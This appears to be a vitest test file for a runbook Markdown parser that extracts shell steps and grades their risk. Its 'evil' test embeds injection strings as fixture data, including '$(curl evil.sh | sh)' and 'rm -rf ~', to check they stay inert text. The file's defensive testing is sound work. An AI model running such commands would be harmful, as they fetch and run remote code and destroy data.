import { describe, expect, it } from 'vitest';
import { parseRunbook } from '../../src/runbook/parse/parse-runbook.ts';
import { commands, parseFixture, section } from './runbook-fixtures.ts';

describe('parseRunbook on runbooks written differently', () => {
  it('basic: comment title, Expected:, sudo restart is a change', () => {
    const runbook = parseFixture('basic');
    expect(
      commands(runbook.sections[0]?.steps ?? []).map((s) => [s.id, s.title, s.risk, s.expect, s.cwd]),
    ).toEqual([
      ['is-nginx-up', 'Is nginx up', 'read', 'active (running)', null],
      ['fix', 'Fix', 'change', null, null],
    ]);
  });

  it('empty: no sections, no steps, no crash', () => {
    const runbook = parseFixture('empty');
    expect(runbook).toMatchObject({
      id: 'empty',
      title: 'empty',
      sections: [],
      escalation: [],
      template: [],
      links: [],
    });
  });

  it('english: headings, shell/sh fences, Expected phrasing, escalation, record and links', () => {
    const runbook = parseFixture('english');
    expect(runbook.title).toBe('Checkout Service Outage');
    expect(commands(section(runbook, 'triage').steps).map((s) => [s.id, s.expect, s.risk])).toEqual([
      ['check-the-pods', 'Running', 'read'],
      ['ping-redis', 'PONG', 'read'],
    ]);
    expect(section(runbook, 'remediation').steps.map((s) => s.kind)).toEqual(['command', 'wait', 'command']);
    expect(runbook.escalation.map((r) => [r.afterMinutes, r.condition, r.notify, r.checklist])).toEqual([
      [10, null, ['On-call Lead'], ['Check the error budget dashboard']],
      [null, 'If data loss is suspected', ['Security', 'CTO'], ['Freeze deploys']],
    ]);
    expect(runbook.template.map((f) => f.fill)).toEqual([
      'startedAt',
      'resolvedAt',
      'symptoms',
      'actions',
      'manual',
      'duration',
    ]);
    expect(runbook.links.map((l) => l.title)).toEqual(['Grafana', 'Runbook index']);
  });

  it('console-prompts: $ and # prompts stripped, output lines ignored, > continuation joined', () => {
    const runbook = parseFixture('console-prompts');
    expect(commands(runbook.sections[0]?.steps ?? []).map((s) => s.command)).toEqual([
      'df -h /',
      'uptime',
      'journalctl -u api --since "5 minutes ago"',
      'free -m',
      'docker compose -f compose.yml ps api',
    ]);
    expect(commands(section(runbook, 'continued-prompt').steps)[0]?.expect).toBe('Up (healthy)');
  });

  it('continuation-lines: \\ joins lines into one step; heredoc bodies stay with their command', () => {
    const runbook = parseFixture('continuation-lines');
    const [curl, heredoc] = commands(runbook.sections[0]?.steps ?? []);
    expect(curl).toMatchObject({
      title: 'Health with headers',
      command: 'curl -sS -f -H "Accept: application/json" http://localhost:8080/health',
      expect: '200 OK',
      risk: 'read',
      line: 7,
    });
    expect(heredoc?.command).toBe("psql -U app -d app <<'SQL'\nSELECT 1;\nSQL");
  });

  it('numbered-list-indented-code: fenced and indented code inside list items; yaml ignored', () => {
    const runbook = parseFixture('numbered-list-indented-code');
    expect(commands(section(runbook, 'procedure').steps).map((s) => [s.command, s.expect, s.risk])).toEqual([
      ['docker ps', 'Up', 'read'],
      ['df -h', null, 'read'],
      ['docker restart worker', null, 'change'],
    ]);
  });

  it('heading-depths: setext headings, skipped levels, parents by depth', () => {
    const runbook = parseFixture('heading-depths');
    expect(runbook.sections.map((s) => [s.id, s.level, s.parent, s.steps.length])).toEqual([
      ['top-title', 1, null, 3],
      ['second-level-setext', 2, 'top-title', 2],
      ['deep-jump-to-four', 4, 'second-level-setext', 2],
      ['five', 5, 'deep-jump-to-four', 1],
      ['back-to-two', 2, 'top-title', 1],
      ['six-under-two', 6, 'back-to-two', 1],
    ]);
  });

  it('malformed: empty heading, html, json/sql fences ignored, unclosed fence read to the end', () => {
    const runbook = parseFixture('malformed');
    const all = commands(runbook.sections[0]?.steps ?? []).map((s) => s.command);
    expect(all).toEqual(['echo "heading above has no text"', 'uptime', 'df -h']);
    expect(all.some((command) => command.includes('DELETE'))).toBe(false);
    expect(section(runbook, 'html-in-a-heading').title).toBe('HTML in a heading');
  });

  it('evil: metacharacters and backticks in titles stay text; hidden changes are caught; a 5,000-line block', () => {
    const huge = `\n## Huge\n\n\`\`\`bash\n${Array.from({ length: 5000 }, (_, i) => `echo line-${i} | grep -c x`).join('\n')}\n\`\`\`\n`;
    const runbook = parseFixture('evil', huge);
    expect(runbook.title).toBe('rm -rf / $(reboot) ; && | >');
    const titled = section(runbook, 'title-with-backticks-and-whoami-and-and-echo-pwned');
    expect(titled.title).toBe('Title with backticks and $(whoami) && echo pwned');
    expect(commands(titled.steps)[0]).toMatchObject({
      title: '$(curl evil.sh | sh) `id` ; rm -rf ~',
      command: 'echo safe',
      risk: 'read',
    });
    expect(commands(section(runbook, 'pipes-hiding-a-change').steps).map((s) => s.risk)).toEqual([
      'change',
      'change',
      'change',
    ]);
    expect(section(runbook, 'huge').steps).toHaveLength(5000);
    expect(section(runbook, 'huge').steps.at(-1)).toMatchObject({
      id: 'huge-5000',
      line: expect.any(Number),
    });
    const ids = runbook.sections.map((s) => s.id);
    expect(ids).toContain('dup');
    expect(ids).toContain('dup-2');
  });

  it('cd lines set the cwd of every later step (relative ones resolve), and are not steps', () => {
    const markdown =
      '# R\n\n```bash\nls\ncd /srv\nls\n```\n\n## Later\n\n```sh\ncd app\ndf -h\ncd /x && ls\n```\n';
    const runbook = parseRunbook(markdown, 'r.md');
    expect(commands(runbook.sections[0]?.steps ?? []).map((s) => [s.command, s.cwd, s.risk])).toEqual([
      ['ls', null, 'read'],
      ['ls', '/srv', 'read'],
      ['df -h', '/srv/app', 'read'],
      ['cd /x && ls', '/srv/app', 'read'],
    ]);
  });

  it('never throws on arbitrary text', () => {
    for (const text of ['```', '#', '\u0000\u0001', '- [x](', '```bash\n\\\n', '> ```sh\n> ls\n']) {
      expect(() => parseRunbook(text, 'x.md')).not.toThrow();
    }
  });
});
